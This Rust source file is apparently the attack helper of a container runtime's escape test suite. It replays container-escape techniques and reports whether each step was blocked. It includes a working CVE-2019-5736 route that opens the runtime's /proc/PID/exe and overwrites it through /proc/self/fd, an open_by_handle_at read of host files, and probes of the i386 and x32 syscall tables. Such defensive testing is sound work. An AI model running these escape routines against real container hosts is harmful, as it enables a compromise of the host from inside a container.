//! The attack program of tests/escapes.rs: one small static program (std only, compiled by the
//! harness with rustc like the probe) that replays container-escape techniques and reports
//! what happened, one `key=value` line per step on stdout, so a test can tell "blocked" from
//! "worked" and by what errno.
//!
//! It runs inside test containers (as `/attack`) and, for the CVE-2019-5736 route that starts
//! from the host side, on the host. Usage: `attack COMMAND ARGS...`:
//!
//! - `exe-init INIT_PID CAPS_HEX`: CVE-2019-5736 route (a). Join the pid and mount namespaces
//!   of INIT_PID, keep only the capabilities in CAPS_HEX (the container's set), open
//!   `/proc/1/exe` (the container's init, still the runtime before `start`), then wait for a
//!   line on stdin ("after start") and reopen the fd for writing and write a marker.
//! - `exe-helper GATE`: CVE-2019-5736 route (b), run as a container's process. When a line
//!   comes through the FIFO GATE (the runtime's `exec` helper is now held before its execve),
//!   try to open `/proc/PID/exe` of every other process in /proc, then read the next line
//!   ("after exec") and write through the fd that opened.
//! - `fds`: list the open fds (`fds=0,1,2`).
//! - `write-fd N TEXT`: write TEXT to an inherited fd N.
//! - `read PATH`, `write PATH TEXT`, `exec PATH`: file access; `readat FD NAME`: `openat(FD)`.
//! - `cwd-read NAME`: getcwd and read NAME relative to the working directory.
//! - `ids`: real/effective uid and gid, `CapEff`, `NoNewPrivs`.
//! - `syscalls`: try `unshare(CLONE_NEWUSER)`, `keyctl`, `add_key`, `ptrace`, `mount`.
//! - `abi`: `getppid` natively, through the i386 table (`int 0x80`) and the x32 ABI.
//! - `umask MODE...`: the raw `umask` syscall for each MODE (octal).
//! - `abstract NAME`: connect to the abstract unix socket `@NAME`.
//! - `tcp-bind PORT...`, `tcp-connect PORT...`: TCP on 127.0.0.1 (`bindPORT=`, `connectPORT=`).
//! - `landlock-abi`: the kernel's Landlock ABI version.
//! - `keyring`: the serial of the session keyring (`session=`) and its description
//!   (`description=`, `_ses` for an anonymous one), without creating one.
//! - `handle-of PATH` (on the host): `name_to_handle_at` of PATH, printed as
//!   `handle=TYPE:HEX` (the `file_handle` type and bytes).
//! - `handle-read TYPE:HEX`: `open_by_handle_at` of that handle with the container's `/` as
//!   mount fd, and read the file (`read=ok:TEXT` or `read=errno:N`).
//! - `sleep`: block until killed.
//!
//! Raw syscall numbers are x86_64's (the machine this suite runs on).

use std::ffi::CString;
use std::io::{BufRead, Read, Write};
use std::os::raw::{c_char, c_int, c_long, c_uint, c_ulong, c_void};

extern "C" {
    fn syscall(num: c_long, ...) -> c_long;
    fn open(path: *const c_char, flags: c_int, ...) -> c_int;
    fn openat(dirfd: c_int, path: *const c_char, flags: c_int, ...) -> c_int;
    fn read(fd: c_int, buf: *mut c_void, n: usize) -> isize;
    fn write(fd: c_int, buf: *const c_void, n: usize) -> isize;
    fn close(fd: c_int) -> c_int;
    fn fork() -> c_int;
    fn waitpid(pid: c_int, status: *mut c_int, options: c_int) -> c_int;
    fn prctl(option: c_int, ...) -> c_int;
    fn setns(fd: c_int, nstype: c_int) -> c_int;
    fn getuid() -> c_uint;
    fn geteuid() -> c_uint;
    fn getgid() -> c_uint;
    fn getegid() -> c_uint;
    fn getppid() -> c_int;
    fn __errno_location() -> *mut c_int;
}

const O_RDONLY: c_int = 0;
const O_WRONLY: c_int = 1;
const O_CLOEXEC: c_int = 0o2000000;
const SYS_PTRACE: c_long = 101;
const SYS_UMASK: c_long = 95;
const SYS_GETPPID: c_long = 110;
const SYS_UNSHARE: c_long = 272;
const SYS_KEYCTL: c_long = 250;
const SYS_ADD_KEY: c_long = 248;
const SYS_MOUNT: c_long = 165;
const SYS_CAPSET: c_long = 126;
const SYS_NAME_TO_HANDLE_AT: c_long = 303;
const SYS_OPEN_BY_HANDLE_AT: c_long = 304;
const AT_FDCWD: c_int = -100;
/// `MAX_HANDLE_SZ`.
const MAX_HANDLE_SZ: usize = 128;
const X32_BIT: c_long = 0x4000_0000;
const CLONE_NEWUSER: c_long = 0x1000_0000;
const CLONE_NEWPID: c_int = 0x2000_0000;
const CLONE_NEWNS: c_int = 0x0002_0000;
const PR_CAPBSET_DROP: c_int = 24;
const PR_CAP_AMBIENT: c_int = 47;
const PR_CAP_AMBIENT_CLEAR_ALL: c_ulong = 4;

fn errno() -> i32 {
    // SAFETY: glibc's thread-local errno.
    unsafe { *__errno_location() }
}

fn cstr(s: &str) -> CString {
    CString::new(s).expect("no NUL in argument")
}

/// Print one `key=value` line and flush (the test reads lines as they come).
fn say(key: &str, value: impl std::fmt::Display) {
    let mut out = std::io::stdout().lock();
    let _ = writeln!(out, "{key}={value}");
    let _ = out.flush();
}

/// `ok` or `errno:N` for a raw return value.
fn outcome(ret: c_long) -> String {
    if ret < 0 {
        format!("errno:{}", errno())
    } else {
        "ok".to_string()
    }
}

fn open_path(path: &str, flags: c_int) -> c_int {
    let p = cstr(path);
    // SAFETY: valid NUL-terminated path.
    unsafe { open(p.as_ptr(), flags | O_CLOEXEC, 0o644) }
}

fn write_all(fd: c_int, text: &str) -> String {
    // SAFETY: buffer and length from a live &str.
    let n = unsafe { write(fd, text.as_ptr().cast(), text.len()) };
    outcome(n as c_long)
}

fn read_text(fd: c_int) -> Result<String, i32> {
    let mut buf = vec![0u8; 4096];
    // SAFETY: buffer of the given length.
    let n = unsafe { read(fd, buf.as_mut_ptr().cast(), buf.len()) };
    if n < 0 {
        return Err(errno());
    }
    buf.truncate(n as usize);
    Ok(String::from_utf8_lossy(&buf).trim().to_string())
}

/// Open `/proc/self/fd/FD` for writing and write a marker at offset 0: what the CVE-2019-5736
/// exploit does once the runtime has stopped executing the file.
fn overwrite_through(fd: c_int) {
    let fd_path = format!("/proc/self/fd/{fd}");
    let w = open_path(&fd_path, O_WRONLY);
    if w < 0 {
        say("reopen", format!("errno:{}", errno()));
        return;
    }
    say("reopen", "ok");
    say("write", write_all(w, "#!/bin/sh\necho pwned by the container\n"));
}

/// Route (a), from the host: become a process of the container (its pid and mount namespace,
/// its capabilities), open its init's executable, wait for `start`, overwrite.
fn exe_init(args: &[String]) -> i32 {
    let pid: i32 = args[0].parse().expect("INIT_PID");
    let caps = u64::from_str_radix(args[1].trim_start_matches("0x"), 16).expect("CAPS_HEX");
    for (ns, flag) in [("pid", CLONE_NEWPID), ("mnt", CLONE_NEWNS)] {
        let fd = open_path(&format!("/proc/{pid}/ns/{ns}"), O_RDONLY);
        // SAFETY: plain syscalls on an fd we own.
        if fd < 0 || unsafe { setns(fd, flag) } != 0 {
            say("setns", format!("{ns}:errno:{}", errno()));
            return 2;
        }
        // SAFETY: closing our own fd.
        unsafe { close(fd) };
    }
    // The pid namespace applies to children: the attack runs in a child.
    // SAFETY: single-threaded program.
    let child = unsafe { fork() };
    if child > 0 {
        let mut status = 0;
        // SAFETY: waiting for our own child.
        unsafe { waitpid(child, &mut status, 0) };
        return (status >> 8) & 0xff;
    }
    for cap in 0..64 {
        if caps & (1u64 << cap) == 0 {
            // SAFETY: prctl with integer arguments; EINVAL past the last cap is fine.
            unsafe { prctl(PR_CAPBSET_DROP, cap as c_ulong, 0 as c_ulong, 0 as c_ulong, 0 as c_ulong) };
        }
    }
    // SAFETY: prctl with integer arguments.
    unsafe { prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_CLEAR_ALL, 0 as c_ulong, 0 as c_ulong, 0 as c_ulong) };
    let header = [0x2008_0522u32, 0]; // _LINUX_CAPABILITY_VERSION_3, this process
    let lo = caps as u32;
    let hi = (caps >> 32) as u32;
    let data = [lo, lo, lo, hi, hi, hi]; // effective, permitted, inheritable (x2)
    // SAFETY: header and two data structs as capset(2) expects.
    let r = unsafe { syscall(SYS_CAPSET, header.as_ptr(), data.as_ptr()) };
    say("capset", outcome(r));
    let fd = open_path("/proc/1/exe", O_RDONLY);
    if fd < 0 {
        say("open", format!("errno:{}", errno()));
    } else {
        say("open", "ok");
    }
    let mut line = String::new();
    let _ = std::io::stdin().lock().read_line(&mut line);
    if fd >= 0 {
        overwrite_through(fd);
    }
    say("done", 1);
    0
}

/// Route (b), inside the container: the test names the runtime's `exec` helper (held before
/// its execve) through the FIFO; open its executable, wait for the exec to finish, overwrite.
fn exe_helper(args: &[String]) -> i32 {
    if gate_line(&args[0]).is_none() {
        return 2;
    }
    // Every other process of the container is a candidate: try to open each one's exe (a
    // non-dumpable runtime hides even the link's target, so there is nothing to filter on).
    let me = std::process::id();
    let mut pids: Vec<u32> = std::fs::read_dir("/proc")
        .map(|d| {
            d.filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok())
                .filter(|p| *p != me)
                .collect()
        })
        .unwrap_or_default();
    pids.sort();
    say("candidates", pids.len());
    let mut fd = -1;
    let mut last = 0;
    for pid in pids {
        let f = open_path(&format!("/proc/{pid}/exe"), O_RDONLY);
        if f >= 0 {
            fd = f;
            break;
        }
        last = errno();
    }
    if fd < 0 {
        say("open", format!("errno:{last}"));
    } else {
        say("open", "ok");
    }
    if gate_line(&args[0]).is_none() {
        return 2;
    }
    if fd >= 0 {
        overwrite_through(fd);
    }
    say("done", 1);
    0
}

/// One message from the test: open the FIFO, read one line, close. The test opens it for
/// writing once per message; an open that only sees the end of the previous message (its
/// writer had not closed yet) reads nothing and is retried.
fn gate_line(path: &str) -> Option<String> {
    loop {
        let gate = open_path(path, O_RDONLY);
        if gate < 0 {
            say("gate", format!("errno:{}", errno()));
            return None;
        }
        let mut line = String::new();
        let r = std::io::BufReader::new(FdReader(gate)).read_line(&mut line);
        // SAFETY: closing our own fd.
        unsafe { close(gate) };
        match r {
            Ok(0) => continue,
            Ok(_) => return Some(line.trim().to_string()),
            Err(_) => return None,
        }
    }
}

struct FdReader(c_int);

impl Read for FdReader {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        // SAFETY: buffer of the given length.
        let n = unsafe { read(self.0, buf.as_mut_ptr().cast(), buf.len()) };
        if n < 0 {
            Err(std::io::Error::last_os_error())
        } else {
            Ok(n as usize)
        }
    }
}

fn fds() -> i32 {
    let mut v: Vec<i32> = std::fs::read_dir("/proc/self/fd")
        .map(|d| {
            d.filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok())
                .collect()
        })
        .unwrap_or_default();
    v.sort();
    // The directory handle used for the listing is gone now: keep only fds still open.
    v.retain(|fd| std::fs::read_link(format!("/proc/self/fd/{fd}")).is_ok());
    let list: Vec<String> = v.iter().map(|n| n.to_string()).collect();
    say("fds", list.join(","));
    for fd in v {
        if let Ok(target) = std::fs::read_link(format!("/proc/self/fd/{fd}")) {
            say(&format!("fd{fd}"), target.display());
        }
    }
    0
}

fn file_result(r: std::io::Result<String>) -> String {
    match r {
        Ok(s) => format!("ok:{}", s.trim()),
        Err(e) => format!("errno:{}", e.raw_os_error().unwrap_or(0)),
    }
}

fn ids() -> i32 {
    // SAFETY: plain getters.
    let (r, e, g, eg) = unsafe { (getuid(), geteuid(), getgid(), getegid()) };
    say("uid", r);
    say("euid", e);
    say("gid", g);
    say("egid", eg);
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    for line in status.lines() {
        for key in [
            "CapInh",
            "CapPrm",
            "CapEff",
            "CapBnd",
            "CapAmb",
            "NoNewPrivs",
            "Seccomp",
        ] {
            if let Some(v) = line.strip_prefix(&format!("{key}:")) {
                say(key, v.trim());
            }
        }
    }
    0
}

fn syscalls() -> i32 {
    let desc = cstr("sealrun-test");
    let ty = cstr("user");
    // SAFETY: raw syscalls with valid pointers or integers; each only reports success.
    unsafe {
        say(
            "unshare_user",
            outcome(syscall(SYS_UNSHARE, CLONE_NEWUSER)),
        );
        say("keyctl", outcome(syscall(SYS_KEYCTL, 0 as c_long, -3 as c_long, 0 as c_long)));
        say(
            "add_key",
            outcome(syscall(
                SYS_ADD_KEY,
                ty.as_ptr(),
                desc.as_ptr(),
                b"x".as_ptr(),
                1usize,
                -3 as c_long,
            )),
        );
        // PTRACE_TRACEME
        say("ptrace", outcome(syscall(SYS_PTRACE, 0 as c_long, 0 as c_long, 0 as c_long, 0 as c_long)));
        let src = cstr("none");
        let dst = cstr("/tmp");
        let fs = cstr("tmpfs");
        say(
            "mount",
            outcome(syscall(
                SYS_MOUNT,
                src.as_ptr(),
                dst.as_ptr(),
                fs.as_ptr(),
                0 as c_long,
                std::ptr::null::<c_void>(),
            )),
        );
    }
    0
}

/// `getppid` through the three syscall tables of an x86_64 kernel. Each prints the value or
/// `errno:N`; a working call returns the same as the native one.
fn abi() -> i32 {
    // SAFETY: getppid has no arguments and no side effects.
    say("libc", unsafe { getppid() });
    // SAFETY: as above, through the raw native number.
    let native = unsafe { syscall(SYS_GETPPID) };
    say("native", value_or_errno(native));
    // SAFETY: as above, through the x32 table (bit 30 set).
    let x32 = unsafe { syscall(X32_BIT | SYS_GETPPID) };
    say("x32", value_or_errno(x32));
    say("i386", value_or_errno(i386_getppid()));
    0
}

/// `keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0)` and `KEYCTL_DESCRIBE` of it.
fn keyring() {
    const GET_KEYRING_ID: c_long = 0;
    const DESCRIBE: c_long = 6;
    const SESSION: c_long = -3;
    // SAFETY: integer arguments only.
    let id = unsafe { syscall(SYS_KEYCTL, GET_KEYRING_ID, SESSION, 0 as c_long) };
    say("session", value_or_errno(id));
    if id > 0 {
        let mut buf = [0u8; 256];
        // SAFETY: buf is writable for its length; the kernel writes at most that many bytes.
        let n = unsafe { syscall(SYS_KEYCTL, DESCRIBE, id, buf.as_mut_ptr(), buf.len()) };
        if n > 0 {
            let text = String::from_utf8_lossy(&buf[..(n as usize).min(buf.len())]);
            let text = text.trim_end_matches('\0');
            say("description", text.rsplit(';').next().unwrap_or(""));
        }
    }
}

fn value_or_errno(r: c_long) -> String {
    if r < 0 {
        format!("errno:{}", errno())
    } else {
        r.to_string()
    }
}

/// `getppid` (i386 number 64) through `int 0x80`; returns the raw kernel value mapped to the
/// libc convention.
#[cfg(target_arch = "x86_64")]
fn i386_getppid() -> c_long {
    let ret: c_long;
    // SAFETY: int 0x80 with eax = 64 (getppid) takes no arguments and touches no memory; the
    // kernel clobbers only eax (r8-r11 are saved on the compat path, declared clobbered anyway).
    unsafe {
        std::arch::asm!(
            "int 0x80",
            inlateout("rax") 64 as c_long => ret,
            out("r8") _, out("r9") _, out("r10") _, out("r11") _,
        );
    }
    if (-4095..0).contains(&ret) {
        // SAFETY: writing glibc's thread-local errno.
        unsafe { *__errno_location() = -ret as c_int };
        -1
    } else {
        ret
    }
}

#[cfg(not(target_arch = "x86_64"))]
fn i386_getppid() -> c_long {
    // SAFETY: writing glibc's thread-local errno.
    unsafe { *__errno_location() = 38 };
    -1
}

fn umask(args: &[String]) -> i32 {
    for a in args {
        let mode = c_long::from_str_radix(a, 8).expect("octal mode");
        // SAFETY: umask takes an integer.
        let r = unsafe { syscall(SYS_UMASK, mode) };
        say(&format!("umask{a}"), outcome(r));
    }
    0
}

fn abstract_connect(name: &str) -> i32 {
    use std::os::linux::net::SocketAddrExt;
    let r = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes())
        .and_then(|addr| std::os::unix::net::UnixStream::connect_addr(&addr));
    match r {
        Ok(mut s) => {
            let mut reply = String::new();
            let _ = s.read_to_string(&mut reply);
            say("connect", format!("ok:{}", reply.trim()));
        }
        Err(e) => say(
            "connect",
            format!("errno:{}", e.raw_os_error().unwrap_or(0)),
        ),
    }
    0
}

/// `struct file_handle` with room for the largest handle.
#[repr(C)]
struct FileHandle {
    handle_bytes: c_uint,
    handle_type: c_int,
    f_handle: [u8; MAX_HANDLE_SZ],
}

fn handle_of(path: &str) -> i32 {
    let p = cstr(path);
    let mut h = FileHandle {
        handle_bytes: MAX_HANDLE_SZ as c_uint,
        handle_type: 0,
        f_handle: [0; MAX_HANDLE_SZ],
    };
    let mut mount_id: c_int = 0;
    // SAFETY: valid path, a handle buffer of MAX_HANDLE_SZ bytes as announced, an int out.
    let r = unsafe {
        syscall(
            SYS_NAME_TO_HANDLE_AT,
            AT_FDCWD,
            p.as_ptr(),
            &mut h as *mut FileHandle,
            &mut mount_id as *mut c_int,
            0 as c_int,
        )
    };
    if r < 0 {
        say("handle", format!("errno:{}", errno()));
        return 1;
    }
    let hex: String = h.f_handle[..h.handle_bytes as usize]
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    say("handle", format!("{}:{hex}", h.handle_type));
    0
}

fn handle_read(spec: &str) -> i32 {
    let (typ, hex) = spec.split_once(':').expect("TYPE:HEX");
    let mut h = FileHandle {
        handle_bytes: (hex.len() / 2) as c_uint,
        handle_type: typ.parse().expect("handle type"),
        f_handle: [0; MAX_HANDLE_SZ],
    };
    for (i, b) in h.f_handle.iter_mut().take(hex.len() / 2).enumerate() {
        *b = u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).expect("hex");
    }
    let mount_fd = open_path("/", O_RDONLY);
    if mount_fd < 0 {
        say("read", format!("errno:{}", errno()));
        return 0;
    }
    // SAFETY: a valid fd and handle; the kernel checks both.
    let fd = unsafe {
        syscall(
            SYS_OPEN_BY_HANDLE_AT,
            mount_fd,
            &mut h as *mut FileHandle,
            O_RDONLY | O_CLOEXEC,
        )
    };
    if fd < 0 {
        say("read", format!("errno:{}", errno()));
    } else {
        say(
            "read",
            match read_text(fd as c_int) {
                Ok(s) => format!("ok:{s}"),
                Err(e) => format!("errno:{e}"),
            },
        );
    }
    0
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let Some(cmd) = args.first() else {
        eprintln!("usage: attack COMMAND ARGS...");
        std::process::exit(2);
    };
    let rest = &args[1..];
    let code = match cmd.as_str() {
        "exe-init" => exe_init(rest),
        "exe-helper" => exe_helper(rest),
        "fds" => fds(),
        "write-fd" => {
            let fd: c_int = rest[0].parse().expect("fd");
            say("write", write_all(fd, &rest[1]));
            0
        }
        "read" => {
            say("read", file_result(std::fs::read_to_string(&rest[0])));
            0
        }
        "readat" => {
            let dirfd: c_int = rest[0].parse().expect("fd");
            let name = cstr(&rest[1]);
            // SAFETY: valid path; the fd may be anything, the kernel checks it.
            let fd = unsafe { openat(dirfd, name.as_ptr(), O_RDONLY | O_CLOEXEC) };
            if fd < 0 {
                say("read", format!("errno:{}", errno()));
            } else {
                say("read", match read_text(fd) {
                    Ok(s) => format!("ok:{s}"),
                    Err(e) => format!("errno:{e}"),
                });
            }
            0
        }
        "write" => {
            let r = std::fs::OpenOptions::new()
                .write(true)
                .create(true)
                .truncate(true)
                .open(&rest[0])
                .and_then(|mut f| f.write_all(rest[1].as_bytes()));
            say(
                "write",
                match r {
                    Ok(()) => "ok".to_string(),
                    Err(e) => format!("errno:{}", e.raw_os_error().unwrap_or(0)),
                },
            );
            0
        }
        "exec" => {
            use std::os::unix::process::CommandExt;
            let e = std::process::Command::new(&rest[0]).args(&rest[1..]).exec();
            say("exec", format!("errno:{}", e.raw_os_error().unwrap_or(0)));
            0
        }
        "cwd-read" => {
            say(
                "cwd",
                file_result(std::env::current_dir().map(|p| p.display().to_string())),
            );
            say("read", file_result(std::fs::read_to_string(&rest[0])));
            0
        }
        "ids" => ids(),
        "syscalls" => syscalls(),
        "abi" => abi(),
        "umask" => umask(rest),
        "abstract" => abstract_connect(&rest[0]),
        "tcp-bind" => {
            for port in rest {
                let r = std::net::TcpListener::bind(("127.0.0.1", port.parse::<u16>().expect("port")));
                say(&format!("bind{port}"), file_result(r.map(|_| String::new())));
            }
            0
        }
        "tcp-connect" => {
            for port in rest {
                let r = std::net::TcpStream::connect(("127.0.0.1", port.parse::<u16>().expect("port")));
                say(&format!("connect{port}"), file_result(r.map(|_| String::new())));
            }
            0
        }
        "landlock-abi" => {
            // SAFETY: landlock_create_ruleset(NULL, 0, LANDLOCK_CREATE_RULESET_VERSION).
            let r = unsafe { syscall(444, std::ptr::null::<c_void>(), 0usize, 1 as c_uint) };
            say("abi", value_or_errno(r));
            0
        }
        "keyring" => {
            keyring();
            0
        }
        "handle-of" => handle_of(&rest[0]),
        "handle-read" => handle_read(&rest[0]),
        "sleep" => loop {
            std::thread::sleep(std::time::Duration::from_secs(3600));
        },
        other => {
            eprintln!("attack: unknown command {other}");
            2
        }
    };
    std::process::exit(code);
}
